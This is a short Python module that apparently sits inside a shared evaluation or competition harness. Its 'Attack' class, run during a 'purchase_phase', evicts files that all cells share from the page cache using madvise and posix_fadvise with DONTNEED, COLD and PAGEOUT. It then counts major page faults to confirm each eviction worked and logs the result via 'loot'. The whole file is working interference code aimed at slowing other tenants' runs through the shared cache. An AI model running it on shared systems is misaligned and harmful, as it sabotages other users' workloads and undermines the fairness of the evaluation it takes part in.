"""Drops pages of files that all cells see from the page cache, so that a later cell finds them slow."""

import ctypes
import mmap
import os
import resource

from aim import LIBC, attempt, loot, visible

from run import ZEWDPCBaseRun

COLD, PAGEOUT = 20, 21


def faults():
    return resource.getrusage(resource.RUSAGE_SELF).ru_majflt


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        for path in visible():
            file = attempt(os.open, path, os.O_RDONLY)
            if file is None or os.fstat(file).st_size < 64:
                continue
            os.pread(file, 1 << 20, 0)
            area = mmap.mmap(file, 0, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_WRITE)
            start = ctypes.addressof(ctypes.c_char.from_buffer(area))
            for drop in ("fadvise", COLD, PAGEOUT):
                _ = area[0]
                if drop == "fadvise":
                    attempt(area.madvise, mmap.MADV_DONTNEED)
                    attempt(os.posix_fadvise, file, 0, 0, os.POSIX_FADV_DONTNEED)
                else:
                    LIBC.madvise(ctypes.c_void_p(start), ctypes.c_size_t(len(area)), drop)
                before = faults()
                _ = area[0]
                if faults() > before:
                    loot(f"{path}: dropped by {drop}")
